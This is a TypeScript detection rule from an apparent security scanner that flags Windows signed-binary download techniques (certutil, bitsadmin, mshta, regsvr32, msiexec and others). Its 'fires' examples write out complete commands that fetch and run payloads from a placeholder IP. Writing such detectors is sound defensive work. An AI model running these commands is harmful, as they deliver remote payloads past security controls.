import { hasHole } from '../../checks/documentation.js';
import type { Rule } from '../../rule.js';

export const rule: Rule = {
  pattern: 'system_tool_abuse',
  variant: 'windows-download',
  threat: 'INJECTION',
  direction: 'inbound',
  severity: 'high',
  confidence: 'medium',
  group: 'commands',
  about:
    'A signed program of Windows is used to fetch something from the network, past rules that only watch browsers.',
  anatomy: 'certutil, bitsadmin, mshta, regsvr32, msiexec and their kin with an address as the argument that fetches',
  source: 'https://lolbas-project.github.io and https://attack.mitre.org/techniques/T1218/',
  match: [
    {
      re: /(?<![\w-])certutil(?:\.exe)?\s[^\n|;]*[-/](?:urlcache|verifyctl|url)\s[^\n|;]*(?:https?|ftp):/i,
      window: 400,
    },
    {
      re: /(?<![\w-])certutil(?:\.exe)?\s+(?:[-/]f\s+)?[-/]decode(?:hex)?\s[^\n]*\.(?:exe|dll|bat|ps1|vbs|js)(?!\w)/i,
      window: 400,
    },
    { re: /(?<![\w-])certreq(?:\.exe)?\s[^\n]*-post\s[^\n]*-config\s+["']?https?:/i, window: 300 },
    {
      re: /(?<![\w-])bitsadmin(?:\.exe)?\s[^\n]*\/(?:transfer|addfile|setnotifycmdline)\s/i,
      window: 300,
      accept: ({ after }) => !hasHole(after),
    },
    { re: /(?<![\w-])mshta(?:\.exe)?\s+["']?(?:https?:|javascript:|vbscript:|\\\\|about:)/i },
    { re: /(?<![\w-])regsvr32(?:\.exe)?\s[^\n]*\/i:["']?(?:https?|ftp|\\\\)[^\n]*scrobj/i, window: 300 },
    { re: /(?<![\w-])msiexec(?:\.exe)?\s[^\n]*[-/](?:i|package|y|z)\s+["']?(?:https?:|\\\\)/i, window: 300 },
    { re: /(?<![\w-])wmic(?:\.exe)?\s[^\n]*\/format:["']?(?:https?:|\\\\)/i, window: 300 },
    {
      re: /(?<![\w-])(?:desktopimgdownldr|mpcmdrun)(?:\.exe)?["']?\s[^\n]*(?:lockscreenurl:|-downloadfile\s)/i,
      window: 300,
    },
    {
      re: /(?<![\w-])(?:ieexec|presentationhost|imewdbld|hh|mspub|msohtmed|protocolhandler|configsecuritypolicy|installutil|xwizard|appinstaller|teams|squirrel|cmdl32|winword|excel|powerpnt)\.exe["']?\s+(?:-\w+\s+|\/\w+\s+|--update\s+)*["']?(?:https?|ms-appinstaller):/i,
    },
    {
      re: /(?<![\w-])rundll32(?:\.exe)?\s[^\n]*(?:javascript:|vbscript:|https?:\/\/|url\.dll,\s*(?:openurl|fileprotocolhandler))/i,
      window: 300,
    },
    {
      re: /(?<![\w-])(?:cscript|wscript)(?:\.exe)?\s(?:[^\n]*https?:\/\/|(?:[^\n]*[\s"'])?\\\\[\w.]+\\)/i,
      window: 300,
    },
    // A program straight from somebody's share
    {
      re: /(?<![\w-])(?:copy|xcopy|robocopy|start|rundll32|cmd(?:\.exe)?\s\/c|powershell|net\suse|expand|extrac32|esentutl|findstr|replace|scriptrunner)(?:\.exe)?\s[^\n]*\\\\\d{1,3}(?:\.\d{1,3}){3}\\[^\s"']*\.(?:exe|dll|ps1|bat|hta|sct|js|vbs|cab)/i,
      window: 240,
    },
    { re: /(?<![\w-])tftp(?:\.exe)?\s+-i\s+\S+\s+get\s/i },
    { re: /msxml2\.(?:server)?xmlhttp[^\n]*(?:iex|invoke-expression)[\s("'$]/i, window: 300 },
    { re: /(?<![\w-])pubprn\.vbs\s[^\n]*script:/i, window: 200 },
    { re: /(?<![\w-])(?:finger|ftp)(?:\.exe)?\s+(?:-s:\S+|[\w@.-]+\s*\|\s*(?:cmd|more|powershell))/i },
    {
      re: /ms-(?:msdt|search|officecmd):(?:\/id|-id|\/|%)[^\n]*(?:it_browseforfile|it_rebrowseforfile|crumb=location)/i,
      window: 400,
    },
  ],
  examples: {
    fires: [
      'bitsadmin /transfer {{name}} http://203.0.113.7/a.exe C:\\\\a.exe',
      'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe a.exe',
      'bitsadmin /transfer job /download /priority high http://203.0.113.7/a.exe C:\\a.exe',
      'mshta http://203.0.113.7/a.hta',
      'copy \\\\203.0.113.7\\share\\a.exe C:\\a.exe',
      'mshta vbscript:Execute("x")',
      'certutil -decode a.b64 a.exe',
      'extrac32.exe /Y /C \\\\203.0.113.7\\s\\a.cab C:\\a.exe',
      'tftp -i 203.0.113.7 GET a.exe C:\\a.exe',
      "$c=New-Object -ComObject Msxml2.XMLHTTP;$c.open('GET','http://203.0.113.7/a',$false);$c.send();iex $c.responseText",
      'regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll',
      'msiexec /q /i http://203.0.113.7/a.msi',
      'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write()',
    ],
    silent: [
      'bitsadmin /transfer {{name}} {{url}} {{path}}',
      'certutil -hashfile a.iso SHA256',
      'msiexec /i package.msi /qn',
      'certutil -decode a.b64 a.bin',
      '{"command":"cscript //nologo C:\\\\Windows\\\\System32\\\\slmgr.vbs /dli"}',
      'expand setup.cab -F:* C:\\out',
      'regsvr32 comctl32.ocx',
      'wmic os get version',
      'rundll32 printui.dll,PrintUIEntry /il',
    ],
  },
};
